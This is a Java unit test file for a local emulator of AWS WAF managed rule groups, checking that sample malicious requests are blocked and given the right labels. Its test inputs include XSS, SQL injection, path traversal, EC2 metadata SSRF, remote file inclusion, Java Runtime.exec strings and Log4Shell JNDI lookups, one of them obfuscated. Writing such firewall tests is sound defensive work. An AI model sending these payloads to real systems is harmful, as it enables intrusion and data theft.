package dev.rampart.local.firewall;

import static dev.rampart.local.firewall.TestAcl.get;
import static dev.rampart.local.firewall.TestAcl.post;
import static dev.rampart.local.firewall.TestAcl.request;
import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.local.firewall.engine.FirewallVerdict;
import dev.rampart.local.protocol.http.HttpRequest;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What AWS documents of its managed rules, by the labels that they give. */
final class ManagedRulesTest {
  private static final String AGENT = "User-Agent: test";

  private static TestAcl group(String name) {
    return TestAcl.rules(
        "[{Name: g, Priority: 1, OverrideAction: {None: {}}, VisibilityConfig: {}, Statement:"
            + " {ManagedRuleGroupStatement: {VendorName: AWS, Name: "
            + name
            + "}}}]");
  }

  private static void assertLabel(String group, String label, HttpRequest request) {
    FirewallVerdict verdict = group(group).judge(request);
    assertThat(verdict.isBlocked()).as(label).isTrue();
    assertThat(verdict.labels()).containsExactly("awswaf:managed:aws:" + label);
    assertThat(verdict.ruleType()).isEqualTo("MANAGED_RULE_GROUP");
  }

  private static void common(String label, HttpRequest request) {
    assertLabel("AWSManagedRulesCommonRuleSet", "core-rule-set:" + label, request);
  }

  private static void known(String label, HttpRequest request) {
    assertLabel("AWSManagedRulesKnownBadInputsRuleSet", "known-bad-inputs:" + label, request);
  }

  @Test
  void the_core_rule_set_refuses_what_its_page_says() {
    common("NoUserAgent_Header", get("/"));
    common("BadBots_Header", get("/", "User-Agent: Mozilla (Nessus)"));
    common("SizeRestrictions_QueryString", get("/?" + "a".repeat(2_049), AGENT));
    common("SizeRestrictions_Cookie_Header", get("/", AGENT, "Cookie: a=" + "a".repeat(10_239)));
    common("SizeRestrictions_Body", post("a".repeat(8_193), AGENT));
    common("SizeRestrictions_URIPath", get("/" + "a".repeat(1_024), AGENT));
    common("EC2MetaDataSSRF_Body", post("http://169.254.169.254/latest", AGENT));
    common("EC2MetaDataSSRF_Cookie", get("/", AGENT, "Cookie: a=http://169.254.169.254/"));
    common("EC2MetaDataSSRF_URIPath", get("/http://169.254.169.254/", AGENT));
    common(
        "EC2MetaDataSSRF_QueryArguments",
        get("/?redirect_uri=http%3A%2F%2Flocalhost%3A3000", AGENT));
    common("GenericLFI_QueryArguments", get("/?file=../../x", AGENT));
    common("GenericLFI_URIPath", get("/%2e%2e/../x", AGENT));
    common("GenericLFI_Body", post("../../x", AGENT));
    common("RestrictedExtensions_URIPath", get("/app.ini", AGENT));
    common("RestrictedExtensions_QueryArguments", get("/?f=app.log", AGENT));
    common("GenericRFI_QueryArguments", get("/?u=http://192.0.2.1/x", AGENT));
    common("GenericRFI_Body", post("ftp://192.0.2.1/x", AGENT));
    common("GenericRFI_URIPath", get("/https://192.0.2.1/x", AGENT));
    common("CrossSiteScripting_Cookie", get("/", AGENT, "Cookie: a=<script>alert(1)</script>"));
    common("CrossSiteScripting_QueryArguments", get("/?a=<script>alert(1)</script>", AGENT));
    common("CrossSiteScripting_Body", post("<script>alert(1)</script>", AGENT));
    common("CrossSiteScripting_URIPath", get("/<script>alert(1)</script>", AGENT));
  }

  @Test
  void sizes_at_the_bound_pass() {
    TestAcl acl = group("AWSManagedRulesCommonRuleSet");

    assertThat(acl.blocks(get("/?" + "a".repeat(2_048), AGENT))).isFalse();
    assertThat(acl.blocks(get("/", AGENT, "Cookie: a=" + "a".repeat(10_238)))).isFalse();
    assertThat(acl.blocks(post("a".repeat(8_192), AGENT))).isFalse();
    assertThat(acl.blocks(get("/" + "a".repeat(1_023), AGENT))).isFalse();
  }

  @Test
  void known_bad_inputs_are_refused() {
    String java = "(java.lang.Runtime).getRuntime().exec(\"whoami\")";
    known("JavaDeserializationRCE_Header", get("/", "X-A: " + java));
    known("JavaDeserializationRCE_Body", post(java));
    known("JavaDeserializationRCE_URIPath", get("/" + java));
    known("JavaDeserializationRCE_QueryString", get("/?" + java));
    known("Host_Localhost_Header", get("/", "Host: localhost"));
    known("Propfind_Method", request("PROPFIND", "/", "", "203.0.113.1"));
    known("ExploitablePaths_URIPath", get("/WEB-INF/web.xml"));
    known("Log4JRCE_Header", get("/", "X-A: ${jndi:ldap://example.com/}"));
    known("Log4JRCE_QueryString", get("/?a=$%7Bjndi:ldap://example.com/}"));
    known("Log4JRCE_Body", post("${${lower:j}ndi:ldap://example.com/}"));
    known("Log4JRCE_URIPath", get("/${jndi:ldap:}"));
    known("ReactJSRCE_Body", post("{\"then\":\"$1:__proto__:then\"}"));
  }

  @Test
  void the_groups_for_a_use_case_refuse() {
    String sql = "x' UNION SELECT password FROM users --";
    String group = "AWSManagedRulesSQLiRuleSet";
    assertLabel(group, "sql-database:SQLi_QueryArguments", get("/?a=" + sql));
    assertLabel(group, "sql-database:SQLi_Body", post(sql));
    assertLabel(group, "sql-database:SQLi_Cookie", get("/", "Cookie: a=" + sql));
    assertLabel(group, "sql-database:SQLi_URIPath", get("/" + sql));
    assertLabel(
        "AWSManagedRulesLinuxRuleSet", "linux-os:LFI_QueryString", get("/?a=/proc/version"));
    assertLabel(
        "AWSManagedRulesUnixRuleSet",
        "posix-os:UNIXShellCommandsVariables_Body",
        post("echo $HOME"));
    assertLabel(
        "AWSManagedRulesPHPRuleSet", "php-app:PHPHighRiskMethodsVariables_Body", post("$_GET[a]"));
    assertLabel(
        "AWSManagedRulesAdminProtectionRuleSet",
        "admin-protection:AdminProtection_URIPath",
        get("/sqlmanager"));
  }

  @Test
  void lists_of_addresses_are_empty() {
    for (String name :
        List.of("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList")) {
      assertThat(group(name).judge(get("/")).labels()).isEmpty();
    }
  }
}
